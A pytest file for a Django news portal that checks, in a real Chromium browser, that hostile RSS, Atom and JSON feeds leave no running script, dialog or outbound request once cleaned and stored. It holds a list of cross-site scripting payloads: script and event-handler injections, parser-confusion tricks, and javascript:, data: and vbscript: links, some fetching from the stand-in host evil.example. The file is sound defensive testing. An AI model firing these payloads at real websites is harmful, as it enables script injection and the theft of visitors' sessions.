"""What a hostile feed brings onto the pages of news, in a real browser: nothing runs and nothing is asked for.

With the portal's Content-Security-Policy and without any: what is stored is harmless by itself.
"""

import json
from datetime import UTC, datetime

import pytest
from django.test import Client

from access.viewer import Viewer
from access.viewing import viewing
from newscentre.feeds.storage import store
from newscentre.stages.clean import cleaned
from newscentre.stages.reading import document_in
from tests.newscentre.feeds_of_tests import feed

SEEN_AT = datetime(2026, 11, 25, 9, tzinfo=UTC)
SHOUT = "window.hacked=1;alert(1);console.log('hacked');fetch('//evil.example/')"
MARKUP = [
    f"<script>{SHOUT}</script>",
    f'"><img src=//evil.example/x onerror="{SHOUT}">',
    f'<svg onload="{SHOUT}"><animate onbegin="{SHOUT}">',
    f'<iframe srcdoc="<script>{SHOUT}</script>"></iframe>',
    f'<a href="javascript:{SHOUT}" autofocus onfocus="{SHOUT}">x</a>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SHOUT}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={SHOUT}>">',
    f"{{{{constructor.constructor('{SHOUT}')()}}}}{{% load x %}}",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "</title></h1></main></body></html><script>window.hacked=1</script>",
]
LINKS = [
    f"javascript:{SHOUT}",
    "data:text/html,<script>parent.hacked=1</script>",
    "//evil.example/%22onclick=x",
    "vbscript:x",
]


def hostile_feeds() -> list[bytes]:
    """The same in the ways in which feeds may carry markup: escaped, in CDATA, as XHTML, in JSON."""
    items = "".join(
        f"<item><title><![CDATA[{markup}]]></title><description><![CDATA[{markup}]]></description>"
        f"<link><![CDATA[{LINKS[place % len(LINKS)]}]]></link><guid>{place}</guid><category><![CDATA[{markup}]]></category></item>"
        for place, markup in enumerate(MARKUP)
    )
    json_items = [
        {"id": str(place), "url": LINKS[place % len(LINKS)], "title": markup, "content_html": markup}
        for place, markup in enumerate(MARKUP)
    ]
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><id>1</id><title type="xhtml">'
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>window.hacked=1</script>'
        '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"/></div></title></entry></feed>'
    )
    head = '<rss version="2.0"><channel><title>x</title>'
    return [
        f"{head}{items}</channel></rss>".encode(),
        atom.encode(),
        json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": json_items}).encode(),
    ]


@pytest.fixture
def pages(db) -> list[tuple[str, str]]:
    """(body, policy) of the pages of news once the feeds came in."""
    with viewing(Viewer.secretariat_of("mtm")):
        for data in hostile_feeds():
            items = cleaned(document_in(data, ""), ["https://evil.example/"], "", SEEN_AT)
            of = feed()
            store(of, items, SEEN_AT)
        numbers = list(of.articles.values_list("address_number", flat=True))
    addresses = ["/en/news/", "/ar/news/", "/en/search/?q=window", *(f"/en/news/{number}/" for number in numbers)]
    answers = [Client().get(address) for address in addresses]
    assert {answer.status_code for answer in answers} == {200}
    return [(answer.content.decode(), answer["Content-Security-Policy"]) for answer in answers]


@pytest.mark.parametrize("has_policy", [True, False], ids=["with its policy", "without any"])
def test_nothing_of_a_hostile_feed_runs_or_is_asked_for(chromium, pages, has_policy):
    context = chromium.new_context(base_url="http://portal.test")
    page, asked, heard = context.new_page(), [], []
    page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda line: heard.append(line.text) if "hacked" in line.text else None)
    shown = iter(pages)

    def answer(route):
        if route.request.resource_type != "document":
            asked.append(route.request.url)
            return route.abort()
        body, policy = next(shown)
        headers = {"Content-Security-Policy": policy} if has_policy else {}
        return route.fulfill(body=body, content_type="text/html; charset=utf-8", headers=headers)

    context.route("**/*", answer)
    for _ in pages:
        page.goto("/page/")
        assert page.evaluate("window.hacked") is None
        for link in page.query_selector_all("main a[href]"):
            assert link.get_attribute("href").startswith(("/", "https://", "http://", "?"))
        assert page.query_selector_all("main :is(script, img, svg, iframe, style, meta, link, object)") == []
    assert heard == []
    assert [address for address in asked if "evil" in address] == []
    context.close()
